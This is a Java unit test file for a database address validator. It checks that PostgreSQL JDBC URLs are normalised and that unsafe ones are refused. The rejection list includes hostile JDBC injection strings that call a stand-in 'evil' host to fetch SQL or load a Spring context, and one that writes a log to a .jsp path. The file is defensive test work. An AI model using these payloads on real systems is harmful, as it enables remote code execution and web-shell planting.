package org.liaoyuan.server.tool.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseAddressTest {

    @Test
    void anAddressIsMadeAnewOfItsParts() {
        DatabaseAddress address =
                DatabaseAddress.of("jdbc:postgresql://CRM.example.com:6543/客户?sslmode=verify-full&currentSchema=sales");

        assertThat(address.url()).isEqualTo("jdbc:postgresql://crm.example.com:6543/客户");
        assertThat(address.properties())
                .containsEntry("sslmode", "verify-full")
                .containsEntry("sslfactory", "org.postgresql.ssl.DefaultJavaSSLFactory")
                .containsEntry("currentSchema", "sales");
        assertThat(DatabaseAddress.of("jdbc:postgresql://[::1]/a").port()).isEqualTo(5432);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://db/a",
                "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:postgresql:a",
                "jdbc:postgresql://db",
                "jdbc:postgresql://a,b/c",
                "jdbc:postgresql://user:tulip@db/c", // pragma: allowlist secret
                "jdbc:postgresql://db:0/c",
                "jdbc:postgresql://db:70000/c",
                "jdbc:postgresql://db/c/d",
                "jdbc:postgresql://db/c%3Fsslfactory=x",
                "jdbc:postgresql://db/c?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/",
                "jdbc:postgresql://db/c?sslfactory=x",
                "jdbc:postgresql://db/c?loggerLevel=DEBUG&loggerFile=/srv/x.jsp",
                "jdbc:postgresql://db/c?sslhostnameverifier=x",
                "jdbc:postgresql://db/c?sslpasswordcallback=x",
                "jdbc:postgresql://db/c?authenticationPluginClassName=x",
                "jdbc:postgresql://db/c?xmlFactoryFactory=x",
                "jdbc:postgresql://db/c?sslkey=/etc/x",
                "jdbc:postgresql://db/c?service=x",
                "jdbc:postgresql://db/c?PGHOST=x",
                "jdbc:postgresql://db/c?options=-c%20a=b",
                "jdbc:postgresql://db/c?preferQueryMode=simple",
                "jdbc:postgresql://db/c?user=x&password=y",
                "jdbc:postgresql://db/c?sslmode=allow",
                "jdbc:postgresql://db/c?currentSchema=a;b",
                "jdbc:postgresql://db/c?SSLMODE=disable"
            })
    void whatSaysMoreThanWhereADatabaseIsIsRefused(String url) {
        assertThatThrownBy(() -> DatabaseAddress.of(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("expected")
                .hasMessageNotContaining("tulip");
    }
}
